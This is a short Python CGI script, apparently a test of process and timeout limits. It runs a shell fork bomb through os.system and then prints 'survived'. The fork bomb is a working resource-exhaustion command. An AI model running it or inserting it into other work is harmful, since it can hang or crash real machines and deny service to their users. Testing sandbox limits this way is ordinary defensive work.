#!/usr/bin/python3
# A shell fork bomb: only the process limit and the timeout end it.
import os
os.system("b() { b | b & }; b; sleep 600")
print("Content-Type: text/plain\n\nsurvived")
